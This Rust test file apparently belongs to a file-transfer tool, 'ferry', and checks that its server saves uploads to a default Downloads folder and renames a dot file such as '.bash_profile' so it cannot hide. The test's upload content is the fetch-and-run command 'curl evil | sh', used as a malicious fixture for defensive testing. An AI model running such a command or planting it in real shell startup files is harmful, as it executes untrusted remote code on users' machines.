//! Attacks through text and defaults (issue 8): dot names, the default download folder,
//! terminal escapes in every peer-controlled field (on a real pseudo-terminal) and a notes
//! flood against a `ferry listen` whose output nobody reads.

use std::process::Stdio;

use crate::util::*;

/// `ferry serve` without `--dir` saves where the window does, `$HOME/Downloads/Ferry`
/// (created), says so on its first line, and a dot name arrives as a visible file.
#[test]
fn serve_without_dir_saves_to_the_windows_folder_and_never_hides_a_file() {
    let home = tempfile::tempdir().unwrap();
    let cwd = tempfile::tempdir().unwrap();
    let mut child = ferry()
        .args(["serve", "--bind", "127.0.0.1", "--port", "0"])
        .env("HOME", home.path())
        .env_remove("XDG_CONFIG_HOME")
        .env_remove("XDG_DOWNLOAD_DIR")
        .current_dir(cwd.path())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let lines = line_channel(child.stdout.take().unwrap());
    let _guard = ChildGuard(child);
    let first = lines.recv_timeout(DEADLINE).expect("serve prints a line");
    let expected = home.path().canonicalize().unwrap().join("Downloads/Ferry");
    assert!(expected.is_dir(), "the folder is created");
    assert!(
        first.contains(&format!("saving to {} ", expected.display())),
        "{first}"
    );
    let addr = first
        .split_whitespace()
        .find_map(|word| word.parse::<std::net::SocketAddr>().ok())
        .unwrap_or_else(|| panic!("no address in {first:?}"));

    plain_upload(addr, &[(".bash_profile", b"curl evil | sh", "")]);
    wait_line(&lines, "received");
    assert_eq!(names_in(&expected), ["_bash_profile"]);
    assert_eq!(
        std::fs::read(expected.join("_bash_profile")).unwrap(),
        b"curl evil | sh"
    );
    assert!(
        names_in(cwd.path()).is_empty(),
        "nothing lands in the current directory"
    );
}
